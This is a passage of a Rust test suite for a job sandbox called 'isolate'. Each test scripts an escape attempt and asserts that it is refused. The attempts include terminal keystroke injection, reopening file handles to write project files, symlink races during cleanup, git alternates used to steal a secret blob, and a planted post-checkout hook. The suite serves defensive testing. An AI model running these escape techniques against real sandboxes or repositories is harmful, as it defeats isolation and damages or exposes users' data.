        unsafe { libc::ptsname_r(master, name.as_mut_ptr().cast(), name.len()) },
        0
    );
    let users = std::ffi::CStr::from_bytes_until_nul(&name)
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let via_proc = format!("/proc/{}/fd/{slave}", std::process::id());
    let program = env.probe(
        "terminals.py",
        &format!(
            r#"
import fcntl, termios, struct
for path in [{users:?}, {via_proc:?}, "/dev/pts/ptmx"]:
    attempt("read " + path, lambda: open(path, "rb", buffering=0).read(1))
    attempt("write " + path, lambda: open(path, "wb", buffering=0).write(b"pwned\n"))
# Its own pty works: what its master writes its child reads. TIOCSTI is refused even there
# (the seccomp layer refuses it on every terminal).
import pty
pid, fd = pty.fork()
if pid == 0:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, b"x")
        print("tiocsti ok", flush=True)
    except OSError as e:
        print("tiocsti", errno.errorcode[e.errno], flush=True)
    print("child read", input(), flush=True)
    os._exit(0)
os.write(fd, b"pushed\n")
seen = b""
while True:
    try:
        chunk = os.read(fd, 1000)
    except OSError:
        break
    if not chunk:
        break
    seen += chunk
os.waitpid(pid, 0)
print("own pty", b"child read pushed" in seen)
print("own tiocsti", "EPERM" if b"tiocsti EPERM" in seen else seen)
m, s = os.openpty()
# No other device gains ioctls; the broker answers TIOCGPTPEER on anything but a master as the
# kernel does.
attempt("urandom ioctl", lambda: fcntl.ioctl(open("/dev/urandom", "rb"), 0x80045200, b"\0" * 4))
attempt("peer of a slave", lambda: fcntl.ioctl(s, termios.TIOCGPTPEER if hasattr(termios, "TIOCGPTPEER") else 0x5441, 0))
attempt("peer of null", lambda: fcntl.ioctl(open("/dev/null"), 0x5441, 0))
"#
        ),
    );
    let (out, report) = attempt_with(&env, &repo, &[], &format!("python3 {}", program), || {});
    let said = stdout(&out);
    for path in [&users, &via_proc, &"/dev/pts/ptmx".to_string()] {
        for what in ["read", "write"] {
            assert!(
                said.contains(&format!("{what} {path}: EACCES")),
                "{what} {path}: {said}"
            );
        }
    }
    assert!(said.contains("own pty True"), "{said}");
    assert!(said.contains("own tiocsti EPERM"), "{said}");
    // Device ioctls are Landlock's from ABI 5 (below, a gap the report lists).
    match report["sandbox"]["landlock_abi"].as_u64() {
        Some(abi) if abi >= 5 => assert!(said.contains("urandom ioctl: EACCES"), "{said}"),
        _ => assert!(
            report["sandbox"]["gaps"].to_string().contains("ioctl"),
            "{report}"
        ),
    }
    assert!(said.contains("peer of a slave: ENOTTY"), "{said}");
    assert!(said.contains("peer of null: ENOTTY"), "{said}");
    // Nothing reached the user's terminal.
    // SAFETY: fcntl and read on this test's own master.
    unsafe { libc::fcntl(master, libc::F_SETFL, libc::O_NONBLOCK) };
    let mut buf = [0u8; 64];
    // SAFETY: read writes at most buf.len() bytes into buf.
    let n = unsafe { libc::read(master, buf.as_mut_ptr().cast(), buf.len()) };
    assert!(
        n <= 0,
        "the job wrote to the user's terminal: {:?}",
        &buf[..n as usize]
    );
    // SAFETY: termios is plain data; an all-zero value is valid.
    let mut attrs: libc::termios = unsafe { std::mem::zeroed() };
    // SAFETY: the slave is this test's; FIONREAD counts what is queued for its reader.
    let mut queued: libc::c_int = 0;
    // SAFETY: tcgetattr and FIONREAD write into locals that outlive the calls; both fds are this test's.
    unsafe {
        libc::tcgetattr(slave, &mut attrs);
        libc::ioctl(slave, libc::FIONREAD, &mut queued);
    }
    drop((master_fd, slave_fd));
    assert_eq!(queued, 0, "keystrokes were pushed into the user's terminal");
}

// ---- Descriptors, handles and paths resolved behind the sandbox's back ----

#[test]
fn open_by_handle_at_a_project_file_for_writing() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let prog = program(
        &env,
        "handle.py",
        "import ctypes, errno, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         class Handle(ctypes.Structure):\n\
         \x20   _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int), ('f_handle', ctypes.c_ubyte * 128)]\n\
         path = sys.argv[1]\n\
         h = Handle(handle_bytes=128)\n\
         mount_id = ctypes.c_int()\n\
         ctypes.set_errno(0)\n\
         rc = libc.name_to_handle_at(-100, path.encode(), ctypes.byref(h), ctypes.byref(mount_id), 0)\n\
         print('name_to_handle_at', 'ok' if rc == 0 else errno.errorcode[ctypes.get_errno()])\n\
         mount_fd = os.open(os.path.dirname(path), os.O_RDONLY)\n\
         for name, flags in (('write', os.O_WRONLY | os.O_APPEND), ('truncate', os.O_RDWR | os.O_TRUNC)):\n\
         \x20   ctypes.set_errno(0)\n\
         \x20   fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), flags)\n\
         \x20   if fd >= 0:\n\
         \x20       os.write(fd, b'evil')\n\
         \x20       print('open_by_handle_at', name, 'OPENED')\n\
         \x20   else:\n\
         \x20       print('open_by_handle_at', name, errno.errorcode[ctypes.get_errno()])\n",
    );
    let out = attempt_in(&env, &repo, &format!("python3 {prog} {README}"));
    let text = stdout(&out);
    for said in [
        "name_to_handle_at ok",
        "open_by_handle_at write EPERM",
        "open_by_handle_at truncate EPERM",
    ] {
        assert!(text.contains(said), "{said}: {text}");
    }
    assert!(!text.contains("OPENED"), "{text}");
}

#[test]
fn reopen_a_read_or_path_descriptor_of_the_project_for_writing() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let prog = program(
        &env,
        "reopen.py",
        "import errno, os, sys\n\
         repo = sys.argv[1]\n\
         def attempt(what, f):\n\
         \x20   try:\n\
         \x20       f()\n\
         \x20       print(what, 'WROTE')\n\
         \x20   except OSError as e:\n\
         \x20       print(what, errno.errorcode[e.errno])\n\
         d = os.open(repo, os.O_RDONLY | os.O_DIRECTORY)\n\
         attempt('openat', lambda: os.write(os.open('README', os.O_WRONLY | os.O_APPEND, dir_fd=d), b'evil'))\n\
         attempt('openat-create', lambda: os.open('planted', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d))\n\
         p = os.open(repo + '/README', os.O_PATH)\n\
         attempt('o_path-reopen', lambda: os.write(os.open(f'/proc/self/fd/{p}', os.O_WRONLY | os.O_APPEND), b'evil'))\n\
         r = os.open(repo + '/README', os.O_RDONLY)\n\
         attempt('rdonly-reopen', lambda: os.write(os.open(f'/proc/self/fd/{r}', os.O_WRONLY | os.O_APPEND), b'evil'))\n\
         attempt('rdonly-write', lambda: os.write(r, b'evil'))\n\
         attempt('truncate', lambda: os.truncate(repo + '/README', 0))\n",
    );
    let out = attempt_in(&env, &repo, &format!("python3 {prog} \"$ISOLATE_REPO\""));
    let text = stdout(&out);
    for said in [
        "openat EACCES",
        "openat-create EACCES",
        "o_path-reopen EACCES",
        "rdonly-reopen EACCES",
        "rdonly-write EBADF",
        "truncate EACCES",
    ] {
        assert!(text.contains(said), "{said}: {text}");
    }
    assert!(!text.contains("WROTE"), "{text}");
}

#[test]
fn an_allow_write_symlink_retargeted_at_the_project_while_the_job_runs() {
    // isolate resolves `--allow-write` to a canonical path and Landlock holds the directory itself
    // (by inode), so a symlink swapped afterwards moves nothing.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let scratch = env.path().join("scratch");
    fs::create_dir(&scratch).unwrap();
    let link = env.path().join("link");
    std::os::unix::fs::symlink(&scratch, &link).unwrap();
    let script = format!(
        "L='{}'; T='{}'; echo ok > \"$L/ok\"; i=0; \
         while [ \"$(readlink \"$L\")\" != \"$T\" ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; \
         echo \"swapped: $(readlink \"$L\")\"; echo evil > \"$L/README\"; echo evil > \"$L/planted\"; \
         mkdir \"$L/newdir\"",
        link.display(),
        repo.display()
    );
    let allow = link.display().to_string();
    let pending = Pending::start(
        &env,
        &repo,
        &["--allow-write", &allow],
        &script,
        Stdio::null(),
    );
    assert!(
        wait_until(Duration::from_secs(60), || scratch.join("ok").exists()),
        "the job did not start"
    );
    let new = env.path().join("link.new");
    std::os::unix::fs::symlink(&repo, &new).unwrap();
    fs::rename(&new, &link).unwrap();
    let (out, _) = pending.finish(&env, || {});
    assert_said(&out, &format!("swapped: {}", repo.display()));
    assert_said(&out, "Permission denied");
    assert_eq!(fs::read_to_string(scratch.join("ok")).unwrap(), "ok\n");
}

#[test]
fn hardlink_a_project_file_into_tmpdir_or_a_job_file_into_the_project() {
    let (_, out) = attempt(
        "ln \"$ISOLATE_REPO/README\" \"$TMPDIR/readme\" && echo evil >> \"$TMPDIR/readme\"; \
         ln \"$ISOLATE_REPO/.git/config\" \"$TMPDIR/config\"; \
         cp -al \"$ISOLATE_REPO/src\" \"$TMPDIR/src-links\"; echo evil >> \"$TMPDIR/src-links/lib.txt\"; \
         echo mine > mine; ln mine \"$ISOLATE_REPO/planted\"; ln -s mine \"$ISOLATE_REPO/planted-link\"",
    );
    assert_said(&out, "Invalid cross-device link");
    assert_said(&out, "Permission denied");
}

#[test]
fn write_dev_shm_tmp_and_var_tmp_outside_tmpdir() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let tag = format!(
        "isolate-escape-{}-{}",
        std::process::id(),
        env.path().file_name().unwrap().to_string_lossy()
    );
    let targets: Vec<PathBuf> = ["/dev/shm", "/tmp", "/var/tmp"]
        .iter()
        .map(PathBuf::from)
        .chain([env.path().to_path_buf(), env.home.clone()])
        .map(|d| d.join(&tag))
        .collect();
    let script: String = targets
        .iter()
        .map(|t| {
            format!(
                "echo evil > '{0}'; mkdir '{0}.d'; ln -s /etc '{0}.l'; ",
                t.display()
            )
        })
        .collect();
    let out = attempt_in(&env, &repo, &script);
    for t in &targets {
        for suffix in ["", ".d", ".l"] {
            let p = PathBuf::from(format!("{}{suffix}", t.display()));
            assert!(
                fs::symlink_metadata(&p).is_err(),
                "{} was made",
                p.display()
            );
        }
    }
    assert_said(&out, "Permission denied");
}

// ---- Git in the project ----

#[test]
fn gc_repack_prune_and_expire_the_project() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // Both kinds of storage: a pack and loose objects, plus reflogs to expire.
    env.git(&repo, ["gc", "-q"]);
    fs::write(repo.join("loose.txt"), "loose\n").unwrap();
    env.git(&repo, ["add", "loose.txt"]);
    env.git(&repo, ["commit", "-q", "-m", "loose"]);
    let out = attempt_in(
        &env,
        &repo,
        "R=\"$ISOLATE_REPO\"; git -C \"$R\" gc -q --prune=now --aggressive; git -C \"$R\" repack -adq; \
         git -C \"$R\" prune --expire=now; git -C \"$R\" reflog expire --expire=now --all; \
         git -C \"$R\" pack-refs --all --prune; git -C \"$R\" commit-graph write --reachable; \
         git -C \"$R\" maintenance run --task=gc --task=loose-objects",
    );
    assert_said(&out, "Permission denied");
}

#[test]
fn write_the_projects_index() {
    let (_, out) = attempt(
        "echo junk > \"$ISOLATE_REPO/.git/index\"; git -C \"$ISOLATE_REPO\" rm -q --cached README; \
         git -C \"$ISOLATE_REPO\" update-index --refresh; \
         GIT_INDEX_FILE=\"$ISOLATE_REPO/.git/index\" git read-tree HEAD~1; \
         git -C \"$ISOLATE_REPO\" reset -q HEAD~1; rm -f \"$ISOLATE_REPO/.git/index\"",
    );
    assert_said(&out, "Permission denied");
}

#[test]
fn replace_objects_add_notes_worktrees_submodules_or_remotes_in_the_project() {
    let (_, out) = attempt(
        "R=\"$ISOLATE_REPO\"; git -C \"$R\" replace HEAD HEAD~1; git -C \"$R\" notes add -m evil HEAD; \
         git -C \"$R\" worktree add -q \"$TMPDIR/linked\"; git -C \"$R\" remote add evil /nowhere; \
         git -C \"$R\" submodule add -q \"$R\" sub; git -C \"$R\" config --add include.path /tmp/evil",
    );
    assert_said(&out, "Permission denied");
}

#[test]
fn the_jobs_config_pointing_git_at_the_projects_files() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // Something for `git clean -fdx` to delete, and changes for `reset --hard` to discard.
    fs::write(repo.join("untracked.txt"), "mine\n").unwrap();
    fs::create_dir_all(repo.join("target")).unwrap();
    fs::write(repo.join("target/out"), "built\n").unwrap();
    fs::write(repo.join("README"), "uncommitted\n").unwrap();
    let out = attempt_in(
        &env,
        &repo,
        "git config core.worktree \"$ISOLATE_REPO\" && echo configured; git checkout -q -- .; \
         git reset -q --hard HEAD~1; git clean -fdxq; git stash -q; \
         git config --unset core.worktree; git config core.hooksPath \"$ISOLATE_REPO/.git/hooks\"",
    );
    assert_said(&out, "configured");
    assert_said(&out, "Permission denied");
}

// ---- The job's own repository turned against isolate's end-of-job work ----

#[test]
fn alternates_pointed_at_another_repository_keep_the_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let other = env.path().join("other.git");
    env.git(
        env.path(),
        [
            "clone",
            "-q",
            "--bare",
            repo.to_str().unwrap(),
            other.to_str().unwrap(),
        ],
    );
    let other_before = Snapshot::take(&other);
    let script = format!(
        "echo '{}/objects' > .git/objects/info/alternates && echo rewritten; \
         git commit -q --allow-empty -m evil && echo committed",
        other.display()
    );
    let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
    assert_said(&out, "rewritten");
    assert_said(&out, "committed");
    let wt = &report["worktree"];
    assert_eq!(wt["removed"], false, "{report}");
    assert!(
        wt["reason"].as_str().unwrap().contains("alternates"),
        "{report}"
    );
    assert!(Path::new(wt["path"].as_str().unwrap()).is_dir());
    other_before.assert_unchanged(&Snapshot::take(&other), "the other repository");
    env.assert_fsck(&other);
}

/// A bare repository outside the project holding one secret blob (a strict job may not read it).
fn private_object(dir: &Path, env: &TestEnv) -> (PathBuf, String) {
    let private = dir.join("private.git");
    env.git(dir, ["init", "-q", "--bare", private.to_str().unwrap()]);
    let secret = dir.join("secret.txt");
    fs::write(&secret, "TOP SECRET\n").unwrap();
    let blob = env.git(
        &private,
        ["hash-object", "-w", "--", secret.to_str().unwrap()],
    );
    fs::remove_file(&secret).unwrap();
    (private, blob)
}

// Found by this suite: the import used to follow the job's planted alternates. The reading side
// of the import now runs in a sandbox that reads only the system, the project and the job's objects.
#[test]
fn the_import_never_copies_objects_the_policy_hides_from_the_job() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (private, blob) = private_object(env.path(), &env);
    let script = format!(
        "P='{p}'; cat \"$P/objects/{a}/{b}\" > /dev/null && echo READ-DIRECTLY; \
         printf '%s\\n%s\\n' \"$P/objects\" \"$(cat .git/objects/info/alternates)\" > alt && mv alt .git/objects/info/alternates; \
         T=$(printf '100644 blob {blob}\\tstolen\\n' | git mktree --missing) && \
         C=$(git commit-tree -p HEAD -m steal \"$T\") && git update-ref HEAD \"$C\" && echo planted",
        p = private.display(),
        a = &blob[..2],
        b = &blob[2..],
    );
    let (out, _) = attempt_with(&env, &repo, &["--policy", "strict"], &script, || {});
    // The policy hides the private repository from the job...
    assert!(!stdout(&out).contains("READ-DIRECTLY"), "{}", stdout(&out));
    assert_said(&out, "Permission denied");
    assert_said(&out, "planted");
    // ...and the import must not fetch it on the job's behalf.
    let found = env.git_output(&repo, ["cat-file", "-e", &blob]);
    assert!(
        !found.status.success(),
        "the project received {blob}, which the job could not read"
    );
}

#[test]
fn the_import_never_follows_object_directories_linked_elsewhere() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (private, blob) = private_object(env.path(), &env);
    // The job links one of its loose-object directories to the private repository's.
    let script = format!(
        "rm -rf .git/objects/{a} && ln -s '{p}/objects/{a}' .git/objects/{a} && \
         T=$(printf '100644 blob {blob}\\tstolen\\n' | git mktree --missing) && \
         C=$(git commit-tree -p HEAD -m steal \"$T\") && git update-ref HEAD \"$C\" && echo planted",
        p = private.display(),
        a = &blob[..2],
    );
    let (out, _) = attempt_with(&env, &repo, &["--policy", "strict"], &script, || {});
    assert_said(&out, "planted");
    let found = env.git_output(&repo, ["cat-file", "-e", &blob]);
    assert!(
        !found.status.success(),
        "the project received {blob} through a planted symlink"
    );
}

#[test]
fn the_worktrees_git_replaced_by_a_link_to_the_projects() {
    let (_, out) = attempt(
        "rm -rf .git && ln -s \"$ISOLATE_REPO/.git\" .git && echo linked; \
         git commit -q --allow-empty -m evil; git branch -f main HEAD~1; echo evil > .git/planted",
    );
    assert_said(&out, "linked");
    assert_said(&out, "Permission denied");
}

#[test]
fn the_worktrees_git_replaced_by_a_gitfile_naming_the_projects() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        "rm -rf .git && echo \"gitdir: $ISOLATE_REPO/.git\" > .git && echo gitfile; \
         git commit -q --allow-empty -m evil; git update-ref refs/heads/main HEAD~1",
        || {},
    );
    assert_said(&out, "gitfile");
    assert_said(&out, "Permission denied");
    let wt = &report["worktree"];
    assert_eq!(wt["removed"], false, "{report}");
    assert!(Path::new(wt["path"].as_str().unwrap()).exists());
}

#[test]
fn symlinks_planted_for_the_cleanup_to_follow() {
    // The worktree is clean (target/ is ignored), so isolate removes it, and TMPDIR, through links
    // to the project: removal unlinks links, never what they point at.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        "mkdir -p target/deep && ln -s \"$ISOLATE_REPO\" target/repo && \
         ln -s \"$ISOLATE_REPO/README\" target/deep/readme && ln -s \"$ISOLATE_REPO/.git\" target/git && \
         ln -s \"$ISOLATE_REPO/src\" \"$TMPDIR/src\" && mkdir \"$TMPDIR/d\" && \
         ln -s \"$ISOLATE_REPO\" \"$TMPDIR/d/repo\" && echo planted",
        || {},
    );
    assert_said(&out, "planted");
    let wt = &report["worktree"];
    assert_eq!(wt["removed"], true, "{report}");
    assert!(!Path::new(wt["path"].as_str().unwrap()).exists());
}

#[test]
fn a_process_swapping_the_worktree_for_symlinks_during_rm_and_prune_redirects_nothing() {
    // A process that can write the worktree (here the test, standing for a daemon the job left)
    // swaps its directories for symlinks to a victim of the same shape while `rm`, then `prune`,
    // remove it. The victim is untouched.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let fill = "for d in $(seq 0 15); do for s in 0 1 2 3; do mkdir -p target/d$d/s$s; \
                for f in 0 1 2 3 4 5 6 7; do echo x > target/d$d/s$s/f$f; done; done; done";
    for command in ["rm", "prune"] {
        let victim = env.path().join(format!("victim-{command}"));
        for d in 0..16 {
            for s in 0..4 {
                let dir = victim.join(format!("target/d{d}/s{s}"));
                fs::create_dir_all(&dir).unwrap();
                fs::write(dir.join("important"), "keep").unwrap();
            }
        }
        let (out, report) = env.worktree_job(&repo, &["--keep"], fill);
        assert_status(&out, 0);
        let wt = PathBuf::from(report["worktree"]["path"].as_str().unwrap());
        let id = report["id"].as_str().unwrap().to_string();
        let stop = std::sync::atomic::AtomicBool::new(false);
        let out = std::thread::scope(|s| {
            s.spawn(|| {
                // The moment the removal has started inside `target/` (one of its files is gone),
                // `target` becomes a symlink to the victim's, and each of its directories too.
                let target = wt.join("target");
                let mut swapped = false;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let started = (0..16)
                        .any(|d| (0..4).any(|s| !target.join(format!("d{d}/s{s}/f0")).exists()));
                    if swapped || !started {
                        continue;
                    }
                    swapped = true;
                    let _ = fs::rename(&target, env.path().join(format!("moved-{command}")));
                    let _ = std::os::unix::fs::symlink(victim.join("target"), &target);
                }
            });
            let args: Vec<&str> = match command {
                "rm" => vec!["rm", &id],
                _ => vec!["prune"],
            };
            let out = env.isolate(&repo, &args);
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
            out
        });
        for d in 0..16 {
            for s in 0..4 {
                assert!(
                    victim.join(format!("target/d{d}/s{s}/important")).exists(),
                    "{command} deleted outside the worktree: {}",
                    stderr(&out)
                );
            }
        }
    }
}

#[test]
fn fifos_where_isolate_reads_the_worktree_cannot_be_made() {
    // Opening a FIFO waits for a writer: one at the job's alternates, packed-refs, a nested
    // .gitignore, its branch's loose ref or HEAD would hang every later read of the worktree (the
    // end of the job, `worktrees`, `prune`, `rm`). The job cannot make one in its worktree (by
    // mkfifo, nor by moving or linking one from its TMPDIR, where FIFOs are allowed).
    let env = TestEnv::new();
    let repo = env.repo("app");
    let script = "mkdir -p sub && git pack-refs --all && mkfifo \"$TMPDIR/f\" && echo made-in-tmpdir; \
        for p in .git/objects/info/alternates .git/packed-refs sub/.gitignore \
                 \".git/refs/heads/$ISOLATE_BRANCH\" .git/HEAD .git/index; do \
          cp \"$p\" \"$p.saved\" 2>/dev/null; rm -f \"$p\"; \
          mkfifo \"$p\" 2>/dev/null || mv \"$TMPDIR/f\" \"$p\" 2>/dev/null || ln \"$TMPDIR/f\" \"$p\" 2>/dev/null; \
          if [ -p \"$p\" ]; then echo \"FIFO at $p\"; else echo \"refused at $p\"; fi; \
          mv \"$p.saved\" \"$p\" 2>/dev/null; \
        done";
    let (out, report) = attempt_with(&env, &repo, &["--keep"], script, || {});
    assert_said(&out, "made-in-tmpdir");
    assert!(!stdout(&out).contains("FIFO at"), "{}", stdout(&out));
    assert_eq!(
        stdout(&out).matches("refused at").count(),
        6,
        "{}",
        stdout(&out)
    );
    let id = report["id"].as_str().unwrap();
    let bound = Duration::from_secs(60);
    for args in [
        vec!["worktrees"],
        vec!["prune", "--dry-run"],
        vec!["rm", id],
    ] {
        let child = env
            .isolate_cmd(&repo, &args)
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        finish(child, bound);
    }
}

#[test]
fn a_tree_with_a_dot_git_entry_is_never_imported() {
    // A commit whose tree holds `.git/hooks/post-checkout`: checked out in the project it would be
    // a hook. It must not reach the project's branch.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let base = env.git(&repo, ["rev-parse", "HEAD"]);
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        "B=$(printf '#!/bin/sh\\ntouch /tmp/pwned\\n' | git hash-object -w --stdin) && \
         H=$(printf '100755 blob %s\\tpost-checkout\\n' \"$B\" | git mktree) && \
         G=$(printf '040000 tree %s\\thooks\\n' \"$H\" | git mktree) && \
         T=$(printf '040000 tree %s\\t.git\\n' \"$G\" | git mktree) && \
         C=$(git commit-tree -p HEAD -m evil \"$T\") && git update-ref HEAD \"$C\" && echo crafted",
        || {},
    );
    assert_said(&out, "crafted");
    let branch = report["worktree"]["branch"].as_str().unwrap();
    let files = env.git(&repo, ["ls-tree", "-r", "--name-only", branch]);
    assert!(!files.contains(".git/"), "{files}");
    assert_eq!(env.git(&repo, ["rev-parse", branch]), base, "{report}");
}

#[test]
fn a_branch_tip_that_is_a_blob_or_a_tag_is_refused() {
    for (what, make) in [
        ("a blob", "X=$(echo x | git hash-object -w --stdin)"),
        (
            "an annotated tag",
            "git tag -a -m t t1 && X=$(git rev-parse t1)",
        ),
    ] {
        let env = TestEnv::new();
        let repo = env.repo("app");
        let base = env.git(&repo, ["rev-parse", "HEAD"]);
        let script = format!(
            "{make} && git pack-refs --all && mkdir -p .git/refs/heads/isolate && \
             echo $X > \".git/refs/heads/$ISOLATE_BRANCH\" && echo crafted"
        );
        let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
        assert_said(&out, "crafted");
        // A blob is refused and the worktree kept; a tag is peeled to the commit it names (here
        // base: nothing to import). Either way the project's branch never holds a non-commit.
        let branch = report["worktree"]["branch"].as_str().unwrap();
        let full = format!("refs/heads/{branch}");
        let tip = env.git(&repo, ["for-each-ref", "--format=%(objectname)", &full]);
        assert!(tip.is_empty() || tip == base, "{what}: {tip} {report}");
        if what == "a blob" {
            assert_eq!(report["worktree"]["removed"], false, "{what}: {report}");
        }
    }
}

#[test]
fn forged_object_files_are_never_imported_and_the_work_is_kept() {
    // The job commits, then replaces the file of one of its objects (a blob, then a tree) with the
    // file of another object: read by the first name, the object hashes to the second. index-pack
    // stores it under its real id, so the name the commit reaches would be missing in the project.
    for (what, forge) in [
        ("a blob", "X=$(git rev-parse HEAD:work.txt)"),
        ("a tree", "X=$(git rev-parse HEAD^{tree})"),
    ] {
        let env = TestEnv::new();
        let repo = env.repo("app");
        let base = env.git(&repo, ["rev-parse", "HEAD"]);
        let script = format!(
            "echo the work > work.txt && git add work.txt && git commit -q -m work && {forge} && \
             Y=$(echo decoy | git hash-object -w --stdin) && \
             P=.git/objects/$(echo $X | cut -c1-2)/$(echo $X | cut -c3-) && \
             Q=.git/objects/$(echo $Y | cut -c1-2)/$(echo $Y | cut -c3-) && \
             chmod u+w \"$P\" && cp \"$Q\" \"$P\" && echo forged"
        );
        let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
        assert_said(&out, "forged");
        // Nothing moved in the project, fsck stays clean (attempt_with checked it), gc works.
        let branch = report["worktree"]["branch"].as_str().unwrap();
        let full = format!("refs/heads/{branch}");
        let tip = env.git(&repo, ["for-each-ref", "--format=%(objectname)", &full]);
        assert!(
            tip.is_empty() || tip == base,
            "{what}: the branch moved to {tip}"
        );
        env.git(&repo, ["gc", "-q"]);
        env.assert_fsck(&repo);
        // The work is kept, and the report says why.
        assert_eq!(report["worktree"]["removed"], false, "{what}: {report}");
        // (A forged tree may already stop the end-of-job probe, which keeps for its own reason, or
        // the import's pack-objects, when the probe found HEAD's tree id in the index's entries
        // and had no need to read the tree.)
        let reason = report["worktree"]["reason"].as_str().unwrap();
        assert!(
            reason.contains("did not receive")
                || reason.contains("cannot read")
                || reason.contains("not a tree"),
            "{what}: {reason}"
        );
        let wt = PathBuf::from(report["worktree"]["path"].as_str().unwrap());
        assert_eq!(
            fs::read_to_string(wt.join("work.txt")).unwrap(),
            "the work\n"
        );
    }
}

#[test]
fn malformed_objects_are_never_imported_and_fsck_stays_clean() {
    // Objects git itself would never write, made with `hash-object --literally`: a tree entry with
    // a zero-padded mode, a commit whose committer has no email, a tree with two entries of one
    // name. index-pack stored them as they were: the project then failed `git fsck --strict`.
    for (what, tree, committer) in [
        (
            "a zero-padded mode",
            "printf '0100644 work.txt\\0' > \"$T\" && printf \"$(echo $B | sed 's/../\\\\x&/g')\" >> \"$T\"",
            "someone <someone@example.com>",
        ),
        (
            "a committer without an email",
            "git cat-file tree HEAD^{tree} > \"$T\"",
            "nobody",
        ),
        (
            "a duplicate entry",
            "printf '100644 work.txt\\0' > \"$T\" && printf \"$(echo $B | sed 's/../\\\\x&/g')\" >> \"$T\" && \
             printf '40000 work.txt\\0' >> \"$T\" && printf \"$(git rev-parse HEAD^{tree} | sed 's/../\\\\x&/g')\" >> \"$T\"",
            "someone <someone@example.com>",
        ),
    ] {
        let env = TestEnv::new();
        let repo = env.repo("app");
        let base = env.git(&repo, ["rev-parse", "HEAD"]);
        let script = format!(
            "echo the work > work.txt && git add work.txt && git commit -q -m work && \
             B=$(git rev-parse HEAD:work.txt) && T=\"$TMPDIR/tree\" && {tree} && \
             TREE=$(git hash-object -t tree -w --literally --stdin < \"$T\") && \
             printf 'tree %s\\nparent %s\\nauthor a <a@example.com> 1700000000 +0000\\ncommitter {committer} 1700000000 +0000\\n\\nbad\\n' $TREE $(git rev-parse HEAD) > \"$TMPDIR/c\" && \
             C=$(git hash-object -t commit -w --literally --stdin < \"$TMPDIR/c\") && \
             git update-ref refs/heads/$ISOLATE_BRANCH $C && echo planted $C"
        );
        let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
        assert_said(&out, "planted");
        let planted = stdout(&out)
            .lines()
            .find_map(|l| l.strip_prefix("planted ").map(str::to_string))
            .unwrap();
        // Not in the project, the branch did not move, fsck --strict is clean (attempt_with
        // checked it too), and the work is kept with the reason.
        assert!(
            !env.git_output(&repo, ["cat-file", "-e", &planted])
                .status
                .success(),
            "{what}: the malformed commit reached the project"
        );
        let branch = report["worktree"]["branch"].as_str().unwrap();
        let tip = env.git(
            &repo,
            ["for-each-ref", "--format=%(objectname)", &format!("refs/heads/{branch}")],
        );
        assert!(tip.is_empty() || tip == base, "{what}: the branch moved to {tip}");
        env.assert_fsck(&repo);
        assert_eq!(report["worktree"]["removed"], false, "{what}: {report}");
        // (gix may refuse the tree first, when it reads the worktree's status.)
        let reason = report["worktree"]["reason"].as_str().unwrap();
        assert!(
            reason.contains("import failed") || reason.contains("cannot read"),
            "{what}: {reason}"
        );
    }
}

/// A FIFO outside the job (a name with a space), which nobody ever writes: its path.
fn someone_elses_fifo(env: &TestEnv) -> String {
    let fifo = env.path().join("someone else.fifo");
    let made = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: mkfifo on a path this test owns.
    assert_eq!(unsafe { libc::mkfifo(made.as_ptr(), 0o644) }, 0);
    fifo.display().to_string()
}

#[test]
fn files_of_the_jobs_git_directory_that_never_end_neither_hang_nor_exhaust_isolate() {
    // gix reads some files of the job's git directory and work tree whole: a link to a FIFO
    // blocks that read forever (the job cannot make a FIFO in its worktree, but can link to any the
    // machine has), a link to /dev/zero or a sparse file of gigabytes fills memory. Each must be
    // refused at once, the worktree kept, by the job's end, `worktrees` and `prune` alike.
    let env = TestEnv::new();
    let fifo = someone_elses_fifo(&env);
    for (n, (what, plant)) in [
        (
            "info/exclude -> a FIFO",
            format!("ln -sf \"{fifo}\" .git/info/exclude"),
        ),
        (
            "info/attributes -> /dev/zero",
            "ln -sf /dev/zero .git/info/attributes".into(),
        ),
        (
            "alternates -> /dev/zero",
            "ln -sf /dev/zero .git/objects/info/alternates".into(),
        ),
        (
            "a sparse config of 8 GiB",
            "cat .git/config > \"$TMPDIR/c\" && truncate -s 8G \"$TMPDIR/c\" && \
             cat .git/config >> \"$TMPDIR/c\" && mv \"$TMPDIR/c\" .git/config"
                .into(),
        ),
        // And what gix reads whole of the refs and the work tree (git bounds a pattern file to
        // 100 MiB and skips a larger one; gix has no bound).
        (
            // gix quoted an unreadable packed-refs whole in its error: 58 s and 11 GB at 1000 MiB.
            "a sparse packed-refs of 900 MiB",
            "truncate -s 900M .git/packed-refs".into(),
        ),
        (
            "a sparse loose ref of 4 GiB",
            "truncate -s 4G .git/refs/heads/big".into(),
        ),
        (
            "a sparse .gitattributes of 4 GiB at the top",
            "truncate -s 4G .gitattributes".into(),
        ),
        (
